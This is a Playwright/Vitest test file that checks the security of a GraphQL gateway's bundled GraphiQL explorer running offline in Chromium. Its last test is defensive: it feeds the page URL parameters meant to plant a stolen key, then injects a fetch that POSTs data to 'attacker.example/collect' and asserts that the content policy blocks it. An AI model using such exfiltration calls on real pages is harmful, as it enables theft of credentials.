import { mkdirSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SANDBOX_SCRIPT_URL } from '../../gateway/index.js';
import { browserMissing, launchOffline, type OfflineBrowser } from './browser.js';
import { startExplorerNetwork, type ExplorerNetwork } from './explorer-network.js';

/**
 * The bundled explorer in a real headless Chromium cut off from every network but the gateway's:
 * it loads, takes the application key, function and role, runs a query and shows the values the
 * ledger verified; the `auto` landing page, with Apollo's CDN unreachable, ends on it; and the key
 * is never taken from the URL, kept in storage or sent to another origin.
 */
const missing = browserMissing();
if (missing) process.stdout.write(`explorer-browser: skipped, ${missing}\n`);
const SCREENSHOT = join(import.meta.dirname, '..', 'output', 'explorer.png');

describe.skipIf(missing !== undefined)('the bundled explorer, offline, in Chromium', () => {
  let network: ExplorerNetwork;
  let browser: OfflineBrowser;
  let origin = '';

  beforeAll(async () => {
    // Development mode with the explorer unset: `auto`.
    network = await startExplorerNetwork();
    origin = new URL(network.url).origin;
    browser = await launchOffline(origin);
  }, 90_000);

  afterAll(async () => {
    await browser?.close();
    await network?.stop();
  });

  /** Opens `path` and waits until GraphiQL's query editor is up. */
  async function openExplorer(path: string): Promise<Page> {
    const page = await browser.context.newPage();
    await page.goto(new URL(path, network.url).href);
    await page
      .locator('.graphiql-query-editor .monaco-editor')
      .first()
      .waitFor({ timeout: 30_000 });
    return page;
  }

  /** Replaces the query in the editor and runs it; resolves with the gateway's response. */
  async function run(page: Page, query: string) {
    await page.locator('.graphiql-query-editor .monaco-editor').first().click();
    await page.keyboard.press('ControlOrMeta+A');
    await page.keyboard.press('Delete');
    // One input of the whole text, as a paste: the editor does not auto-close its brackets.
    await page.keyboard.insertText(query);
    // A click that lands while GraphiQL is still loading the schema runs nothing; click again.
    for (let attempt = 1; ; attempt++) {
      const answered = page.waitForResponse(
        (response) =>
          response.url() === network.url &&
          response.request().method() === 'POST' &&
          (response.request().postData() ?? '').includes('device('),
        { timeout: 20_000 },
      );
      await page.locator('.graphiql-execute-button').click();
      try {
        return await answered;
      } catch (error) {
        if (attempt >= 3) throw error;
      }
    }
  }

  it('runs a query with the key, function and role typed in, and shows the verified values', async () => {
    const seen: string[] = [];
    browser.context.on('request', (request) => seen.push(request.url()));
    const problemsBefore = browser.problems.length;
    const page = await openExplorer('/explorer');
    await page.fill('#gridmark-key', network.appKey);
    await page.fill('#gridmark-function', network.function);
    await page.fill('#gridmark-role', network.role);
    const response = await run(page, `{ device(id: "${network.device}") { id model brand } }`);
    const sent = response.request().headers();
    expect(sent['authorization']).toBe(`Bearer ${network.appKey}`);
    expect(sent['x-gridmark-function']).toBe(network.function);
    expect(sent['x-gridmark-role']).toBe(network.role);
    const result = page.locator('.graphiql-response');
    await expect.poll(() => result.innerText(), { timeout: 15_000 }).toContain('"VERIFIED"');
    expect(await result.innerText()).toContain('"SV-150K"');
    mkdirSync(join(SCREENSHOT, '..'), { recursive: true });
    await page.screenshot({ path: SCREENSHOT });
    // Nothing was even attempted beyond the gateway, and the key went into no URL.
    expect(browser.blocked).toEqual([]);
    expect(
      seen.filter((url) => !url.startsWith(`${origin}/`) && !/^(data|blob):/.test(url)),
    ).toEqual([]);
    expect(seen.some((url) => url.includes(network.appKey))).toBe(false);
    // No console error, no policy violation: the page needs nothing it was refused.
    expect(browser.problems.slice(problemsBefore)).toEqual([]);
    await page.close();
  }, 150_000);

  it('the auto landing page, with Apollo Sandbox unreachable, ends on the bundled explorer', async () => {
    const page = await browser.context.newPage();
    const before = browser.blocked.length;
    const landing = await fetch(network.url, { headers: { accept: 'text/html' } });
    expect(await landing.text()).toContain('<a id="gridmark-explorer-link" href="explorer">');
    await page.goto(network.url);
    await page.waitForURL(new URL('/explorer', network.url).href, { timeout: 20_000 });
    await page
      .locator('.graphiql-query-editor .monaco-editor')
      .first()
      .waitFor({ timeout: 30_000 });
    // The CDN's script was tried, and aborted; nothing else left the gateway's origin.
    expect(browser.blocked.slice(before).map((b) => b.url)).toEqual([SANDBOX_SCRIPT_URL]);
    await page.close();
  }, 60_000);

  it('the auto landing page opens the bundled explorer when Sandbox never answers', async () => {
    const page = await browser.context.newPage();
    // A firewall that drops packets: the request for Sandbox's script hangs, unanswered.
    await page.route(SANDBOX_SCRIPT_URL, () => undefined);
    const started = Date.now();
    // The page never finishes loading while the script hangs: wait for its first response only.
    await page.goto(network.url, { waitUntil: 'commit' });
    await expect
      .poll(() => page.locator('#gridmark-landing-status').innerText(), { timeout: 5_000 })
      .toContain('Loading Apollo Sandbox');
    await page.waitForURL(new URL('/explorer', network.url).href, {
      timeout: 30_000,
      waitUntil: 'commit',
    });
    // It waited for the script (8 s) before giving up on it.
    expect(Date.now() - started).toBeGreaterThanOrEqual(7_500);
    await page.locator('#gridmark-key').waitFor();
    await page.close();
  }, 60_000);

  it('never fills the key from the URL, keeps it in no storage and sends it to no other origin', async () => {
    const attack =
      '/explorer?gridmark-key=stolen&key=stolen&authorization=Bearer%20stolen&function=x&role=y#gridmark-key=stolen';
    const page = await openExplorer(attack);
    expect(await page.inputValue('#gridmark-key')).toBe('');
    expect(await page.inputValue('#gridmark-function')).toBe('');
    expect(await page.inputValue('#gridmark-role')).toBe('');
    // So the query goes without a key, and the gateway refuses it.
    const refused = await run(page, `{ device(id: "${network.device}") { model } }`);
    expect(refused.request().headers()['authorization']).toBeUndefined();
    const body = (await refused.json()) as { errors?: { extensions?: { code?: string } }[] };
    expect(body.errors?.[0]?.extensions?.code).toBe('UNAUTHENTICATED');
    await page.fill('#gridmark-key', network.appKey);
    await page.fill('#gridmark-function', network.function);
    await run(page, `{ device(id: "${network.device}") { id } }`);
    // Every value the page keeps: its local and session storage and its cookies.
    const stored = await page.evaluate<string>(`JSON.stringify([
      ...Object.values(localStorage), ...Object.values(sessionStorage), document.cookie])`);
    expect(stored).not.toContain(network.appKey);
    expect(stored).toContain(network.function);
    // A script injected into the page sends to another origin: the page's policy refuses the
    // connection before it leaves the browser (the cut-off network never even sees it).
    const before = browser.blocked.length;
    const outcome = await page.evaluate(() =>
      fetch('https://attacker.example/collect', { method: 'POST', body: 'x' }).then(
        () => 'sent',
        () => 'refused',
      ),
    );
    expect(outcome).toBe('refused');
    expect(browser.blocked.slice(before)).toEqual([]);
    // The credentials join requests to the GraphQL endpoint only, not other paths of the gateway.
    const other = page.waitForRequest((r) => r.url().endsWith('/healthz'));
    await page.evaluate(() => fetch('/healthz').then((r) => r.status));
    expect((await other).headers()['authorization']).toBeUndefined();
    // After a reload the key is gone; the function stays for this tab.
    await page.reload();
    await page.locator('#gridmark-key').waitFor();
    expect(await page.inputValue('#gridmark-key')).toBe('');
    expect(await page.inputValue('#gridmark-function')).toBe(network.function);
    await page.close();
  }, 60_000);
});
